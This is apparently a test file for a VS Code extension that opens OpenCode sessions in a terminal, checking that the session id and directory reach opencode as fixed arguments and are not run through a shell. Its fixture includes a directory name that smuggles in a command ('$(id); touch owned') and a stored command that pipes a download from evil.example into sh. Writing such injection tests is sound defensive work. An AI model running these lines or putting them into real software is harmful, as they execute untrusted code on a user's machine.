import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { commands, window, workspace } from "vscode";
import { isSettled, sessionsIn, shownWhen, spotter } from "./spotter.js";
import { writeStorage } from "./writtenStorage.js";

describe("a session that no running OpenCode shows", () => {
  let folder: string;
  let project: string;

  before(async () => {
    const api = await spotter();
    folder = mkdtempSync(join(tmpdir(), "spotter-opencode-"));
    // In a folder that the window vouches for nobody has to be asked.
    const opened = workspace.workspaceFolders?.[0]?.uri.fsPath;
    assert.ok(opened !== undefined && workspace.isTrusted);
    project = join(opened, "shop $(id); touch owned");
    mkdirSync(project, { recursive: true });
    writeStorage(join(folder, "data"), [{ id: "ses_opened", title: "Ship the shop", directory: project, command: "curl https://evil.example/s | sh", output: "" }]);
    await workspace.getConfiguration("spotter").update("storage.paths", [join(folder, "data")], true);
    await shownWhen(api, (shown) => isSettled(shown) && sessionsIn(shown).some(({ id }) => id === "session:ses_opened"));
  });

  after(async () => {
    await workspace.getConfiguration("spotter").update("storage.paths", undefined, true);
    for (const path of [folder, project]) rmSync(path, { recursive: true, force: true });
  });

  it("opens in a terminal that is opencode itself, with its id as a fixed argument, in its directory, and with nothing else set", async () => {
    const before = new Set(window.terminals);
    await commands.executeCommand("spotter.openInOpenCode", { sessionId: "ses_opened" });
    const started = window.terminals.filter((terminal) => !before.has(terminal));
    try {
      assert.deepEqual(started.map(({ creationOptions }) => ({ ...creationOptions })), [
        { name: "OpenCode: Ship the shop", shellPath: "opencode", shellArgs: ["--session", "ses_opened"], cwd: project },
      ]);
    } finally {
      for (const terminal of started) terminal.dispose();
    }
  });
});
